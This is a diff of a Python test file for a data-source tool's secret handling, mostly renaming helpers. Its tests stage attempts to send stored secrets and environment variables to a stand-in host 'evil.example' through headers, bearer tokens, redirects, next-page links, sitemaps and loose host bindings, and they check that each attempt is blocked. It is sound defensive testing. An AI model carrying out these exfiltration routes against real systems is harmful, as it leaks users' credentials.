@@ -22,16 +22,16 @@ def _api(**fields: Any) -> Sending:
     """An API source whose fields mention `${NAME}` as `@`, the host as `HOST` and an at sign as `§`."""
 
     async def send(attack: Attack, name: str, host: str) -> Said:
-        return await attack.api(**_filled({"endpoint": "http://HOST/rows", **fields}, name, host))
+        return await attack.api(**_fill_secret({"endpoint": "http://HOST/rows", **fields}, name, host))
 
     return send
 
 
-def _filled(value: Any, name: str, host: str) -> Any:
+def _fill_secret(value: Any, name: str, host: str) -> Any:
     if isinstance(value, dict):
-        return {_filled(key, name, host): _filled(inner, name, host) for key, inner in value.items()}
+        return {_fill_secret(key, name, host): _fill_secret(inner, name, host) for key, inner in value.items()}
     if isinstance(value, list):
-        return [_filled(inner, name, host) for inner in value]
+        return [_fill_secret(inner, name, host) for inner in value]
     if not isinstance(value, str):
         return value
     return value.replace("@", f"${{{name}}}").replace("HOST", host).replace("§", "@")
@@ -39,7 +39,7 @@ def _filled(value: Any, name: str, host: str) -> Any:
 
 def _source(**fields: Any) -> Sending:
     async def send(attack: Attack, name: str, host: str) -> Said:
-        said = await attack.source(**_filled(fields, name, host))
+        said = await attack.source(**_fill_secret(fields, name, host))
         if fields["type"] == "llm_generated":  # nothing is asked for before it is agreed to
             await attack("prepare_data", task=TASK, confirm=True)
         return said
@@ -60,7 +60,7 @@ async def _trying_by_address(attack: Attack, name: str, host: str) -> Said:
 
 
 async def _proposing(attack: Attack, name: str, host: str) -> Said:
-    await _unlabelled(attack)
+    await _write_unlabelled(attack)
     return await attack(
         "add_examples",
         task=TASK,
@@ -78,7 +78,7 @@ async def _proposing(attack: Attack, name: str, host: str) -> Said:
     )
 
 
-async def _unlabelled(attack: Attack) -> None:
+async def _write_unlabelled(attack: Attack) -> None:
     """Rows that wait for a label."""
     victim = attack.victim
     (victim.inbox / "open.csv").write_text(
@@ -140,19 +140,19 @@ def _environment(monkeypatch: pytest.MonkeyPatch, victim: Victim) -> None:
 
 @pytest.mark.parametrize("place", PLACES)
 async def test_a_variable_of_the_environment_is_sent_nowhere(victim: Victim, network: Network, place: str) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await PLACES[place](attack, NAME, "evil.example")
-    assert network.arrived(VALUE) == [] and victim.leaks(VALUE) == []
+    assert network.requests_carrying(VALUE) == [] and victim.leaks(VALUE) == []
 
 
 @pytest.mark.parametrize("name", ["COMPANY_NOTE", "HOME", "PATH", "NLP_SKILLS_SECRETS_DIR", "PYTHONPATH"])
 async def test_no_other_variable_is_sent_either(victim: Victim, network: Network, name: str) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         said = await PLACES["header"](attack, name, "evil.example")
     assert said.is_error and "nlp-skills secret" in said.text and "evil.example" in said.text and name in said.text
-    assert network.arrived(VALUE) == network.arrived(str(victim.home)) == []
+    assert network.requests_carrying(VALUE) == network.requests_carrying(str(victim.home)) == []
 
 
 @pytest.mark.parametrize(
@@ -171,17 +171,17 @@ async def test_no_other_variable_is_sent_either(victim: Victim, network: Network
 async def test_a_secret_of_another_host_is_not_sent_and_the_command_is_named(
     victim: Victim, network: Network, place: str
 ) -> None:
-    _kept(victim, "good.example")
-    async with victim.attacked() as attack:
+    _keep_secret(victim, "good.example")
+    async with victim.attack() as attack:
         await attack.create()
         said = await PLACES[place](attack, "NEWS_KEY", "evil.example")
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
     assert (
         said.is_error and "nlp-skills secret" in said.text and "evil.example" in said.text and "NEWS_KEY" in said.text
     )
 
 
-def _kept(victim: Victim, host: str, name: str = "NEWS_KEY") -> None:
+def _keep_secret(victim: Victim, host: str, name: str = "NEWS_KEY") -> None:
     victim.run("secret", "set", name, *(("--host", host) if host else ()), typed=f"{VALUE}\n")
 
 
@@ -208,39 +208,41 @@ def _kept(victim: Victim, host: str, name: str = "NEWS_KEY") -> None:
     ],
 )
 async def test_no_writing_of_another_host_passes_for_the_bound_one(victim: Victim, network: Network, host: str) -> None:
-    _kept(victim, "good.example")
-    async with victim.attacked() as attack:
+    _keep_secret(victim, "good.example")
+    async with victim.attack() as attack:
         await attack.create()
         await PLACES["header"](attack, "NEWS_KEY", host)
-    assert [each for each in network.arrived(VALUE) if not each.startswith(("good.example ", "good.example:80 "))] == []
+    assert [
+        each for each in network.requests_carrying(VALUE) if not each.startswith(("good.example ", "good.example:80 "))
+    ] == []
 
 
 @pytest.mark.parametrize("host", ["good.example", "GOOD.Example", "good.example.", "good.example:80"])
 async def test_the_bound_host_gets_its_secret_however_it_is_written(
     victim: Victim, network: Network, host: str
 ) -> None:
-    _kept(victim, "good.example")
-    async with victim.attacked() as attack:
+    _keep_secret(victim, "good.example")
+    async with victim.attack() as attack:
         await attack.create()
         said = await PLACES["header"](attack, "NEWS_KEY", host)
-    assert network.arrived(VALUE, "good.example") and not said.is_error
+    assert network.requests_carrying(VALUE, "good.example") and not said.is_error
 
 
 @pytest.mark.parametrize("bound", ["*", "*.example", "", "."])
 async def test_no_binding_stands_for_every_host(victim: Victim, network: Network, bound: str) -> None:
     victim.run("secret", "set", "NEWS_KEY", "--host", bound, typed=f"{VALUE}\n")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await PLACES["header"](attack, "NEWS_KEY", "evil.example")
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
 
 
 async def test_a_secret_bound_to_a_port_goes_to_no_other_port(victim: Victim, network: Network) -> None:
-    _kept(victim, "good.example:81")
-    async with victim.attacked() as attack:
+    _keep_secret(victim, "good.example:81")
+    async with victim.attack() as attack:
         await attack.create()
         await PLACES["header"](attack, "NEWS_KEY", "good.example:82")
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
 
 
 @pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@@ -248,9 +250,9 @@ async def test_a_secret_bound_to_a_port_goes_to_no_other_port(victim: Victim, ne
 async def test_a_redirect_takes_no_secret_along(victim: Victim, network: Network, status: int, to: str) -> None:
     if status in (301, 303, 308) and to != "http://evil.example/rows":
         pytest.skip("one status of each kind is enough for the other writings")
-    _kept(victim, "good.example")
+    _keep_secret(victim, "good.example")
     network.web.serve("/moved", Reply(status=status, headers={"Location": to}))
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.api(
             "http://good.example/moved",
@@ -258,13 +260,13 @@ async def test_a_redirect_takes_no_secret_along(victim: Victim, network: Network
             params={"q": "${NEWS_KEY}"},
             auth={"type": "bearer", "token": "${NEWS_KEY}"},
         )
-    assert network.arrived(VALUE, "good.example") or "good.example" in str(victim.answers)
-    assert network.arrived(VALUE, "evil.example") == network.arrived(VALUE, "x.good.example") == []
+    assert network.requests_carrying(VALUE, "good.example") or "good.example" in str(victim.answers)
+    assert network.requests_carrying(VALUE, "evil.example") == network.requests_carrying(VALUE, "x.good.example") == []
 
 
 @pytest.mark.parametrize("form", ["link", "body"])
 async def test_a_next_page_elsewhere_takes_no_secret_along(victim: Victim, network: Network, form: str) -> None:
-    _kept(victim, "good.example")
+    _keep_secret(victim, "good.example")
     onward = "http://evil.example/rows?page=2"
     rows = [{"text": f"letter {n * n} of the day", "label": "ab"[n % 2]} for n in range(9)]
     network.web.serve(
@@ -272,7 +274,7 @@ async def test_a_next_page_elsewhere_takes_no_secret_along(victim: Victim, netwo
         as_json(rows, Link=f'<{onward}>; rel="next"') if form == "link" else as_json({"items": rows, "next": onward}),
     )
     pages = {"type": "link"} if form == "link" else {"type": "cursor", "next": "next", "param": "cursor"}
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.api(
             "http://good.example/first",
@@ -281,27 +283,27 @@ async def test_a_next_page_elsewhere_takes_no_secret_along(victim: Victim, netwo
             records=None if form == "link" else "items",
         )
         await attack("prepare_data", task=TASK)
-    assert network.arrived(VALUE, "evil.example") == []
+    assert network.requests_carrying(VALUE, "evil.example") == []
 
 
 @pytest.mark.parametrize("name", ["NEWS_KEY", NAME])
 async def test_secret_allow_covers_stored_secrets_and_variables(victim: Victim, network: Network, name: str) -> None:
-    _kept(victim, "hub.example")
+    _keep_secret(victim, "hub.example")
     assert victim.run("secret", "allow", name, "--host", "good.example").returncode == 0
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         assert not (await PLACES["bearer"](attack, name, "good.example")).is_error
-        assert network.arrived(VALUE, "good.example")
+        assert network.requests_carrying(VALUE, "good.example")
         assert (await PLACES["bearer"](attack, name, "evil.example")).is_error
-    assert network.arrived(VALUE, "evil.example") == [] and victim.leaks(VALUE) == []
+    assert network.requests_carrying(VALUE, "evil.example") == [] and victim.leaks(VALUE) == []
 
 
 async def test_secret_set_binds_to_its_host(victim: Victim, network: Network) -> None:
     assert victim.run("secret", "set", "NEWS_KEY", "--host", "good.example", typed=f"{VALUE}\n").returncode == 0
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         assert not (await PLACES["bearer"](attack, "NEWS_KEY", "good.example")).is_error
-    assert network.arrived(VALUE, "good.example") and victim.leaks(VALUE) == []
+    assert network.requests_carrying(VALUE, "good.example") and victim.leaks(VALUE) == []
 
 
 @pytest.mark.parametrize(
@@ -316,14 +318,14 @@ async def test_secret_set_binds_to_its_host(victim: Victim, network: Network) ->
 async def test_a_secret_without_a_host_is_bound_by_no_argument(
     victim: Victim, network: Network, extra: dict[str, Any]
 ) -> None:
-    _kept(victim, "")
+    _keep_secret(victim, "")
     source = {"type": "api", "endpoint": "http://good.example/rows", "headers": {"X": "${NEWS_KEY}"}, "retries": 0}
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack("set_data_source", task=TASK, sources=[source], **extra)
         await attack("set_data_source", task=TASK, sources=[{**source, **extra}])
         await attack("prepare_data", task=TASK, confirm=True)
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
 
 
 @pytest.mark.parametrize("mode", ["legacy", "auto"])
@@ -331,25 +333,25 @@ async def test_a_secret_without_a_host_is_bound_by_no_argument(
 async def test_a_form_binds_a_secret_to_the_host_it_names(
     victim: Victim, network: Network, mode: str, choice: str
 ) -> None:
-    _kept(victim, "")
+    _keep_secret(victim, "")
     seen: list[str] = []
-    async with victim.attacked(mode=mode, elicitation_callback=answering(choice, seen)) as attack:
+    async with victim.attack(mode=mode, elicitation_callback=answering(choice, seen)) as attack:
         await attack.create()
         await PLACES["bearer"](attack, "NEWS_KEY", "good.example")
         assert any("good.example" in asked and "NEWS_KEY" in asked and VALUE not in asked for asked in seen)
-        assert bool(network.arrived(VALUE, "good.example")) is bool(choice)
+        assert bool(network.requests_carrying(VALUE, "good.example")) is bool(choice)
     network.web.asked.clear()
-    async with victim.attacked() as attack:  # a client without forms: what was agreed to holds, and no more
+    async with victim.attack() as attack:  # a client without forms: what was agreed to holds, and no more
         await PLACES["bearer"](attack, "NEWS_KEY", "good.example")
         await PLACES["bearer"](attack, "NEWS_KEY", "evil.example")
-    assert bool(network.arrived(VALUE, "good.example")) is bool(choice)
-    assert network.arrived(VALUE, "evil.example") == []
+    assert bool(network.requests_carrying(VALUE, "good.example")) is bool(choice)
+    assert network.requests_carrying(VALUE, "evil.example") == []
 
 
 async def test_a_password_typed_into_a_call_stays_with_the_host_it_was_typed_for(
     victim: Victim, network: Network
 ) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.api("http://good.example/rows", auth={"type": "bearer", "token": VALUE})
         stored = victim.run("secret", "list").stdout.split()
@@ -357,14 +359,14 @@ async def test_a_password_typed_into_a_call_stays_with_the_host_it_was_typed_for
         network.web.asked.clear()
         for name in stored:
             await PLACES["header"](attack, name, "evil.example")
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
 
 
 async def test_a_definition_that_came_from_elsewhere_sends_no_more_than_a_call(
     victim: Victim, network: Network
 ) -> None:
-    _kept(victim, "good.example")
-    async with victim.attacked() as attack:
+    _keep_secret(victim, "good.example")
+    async with victim.attack() as attack:
         await attack.create()
         for name in (NAME, "NEWS_KEY"):
             (victim.task / "data_source.yaml").write_text(
@@ -374,7 +376,7 @@ async def test_a_definition_that_came_from_elsewhere_sends_no_more_than_a_call(
             )
             await attack("set_data_source", task=TASK)
             await attack("prepare_data", task=TASK, confirm=True)
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
 
 
 @pytest.mark.parametrize("endpoint", ["http://hub.example", "http://evil.example"])
@@ -382,19 +384,19 @@ async def test_the_hub_gets_no_secret_but_its_own(
     victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch, endpoint: str
 ) -> None:
     monkeypatch.setenv("HF_ENDPOINT", endpoint)
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         said = await attack.source(type="huggingface", dataset="someone/rows", token=f"${{{NAME}}}", retries=0)
-    assert network.arrived(VALUE) == []
+    assert network.requests_carrying(VALUE) == []
     assert said.is_error and "nlp-skills secret" in said.text and NAME in said.text
 
 
 async def test_a_page_of_a_bound_host_takes_no_secret_to_the_pages_it_leads_to(
     victim: Victim, network: Network
 ) -> None:
-    _kept(victim, "good.example")
+    _keep_secret(victim, "good.example")
     network.web.serve("/map.xml", as_page("<urlset><url><loc>http://evil.example/page?a=1</loc></url></urlset>"))
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.source(
             type="web_scrape",
@@ -403,4 +405,4 @@ async def test_a_page_of_a_bound_host_takes_no_secret_to_the_pages_it_leads_to(
             retries=0,
         )
         await attack("prepare_data", task=TASK)
-    assert network.arrived(VALUE, "evil.example") == []
+    assert network.requests_carrying(VALUE, "evil.example") == []
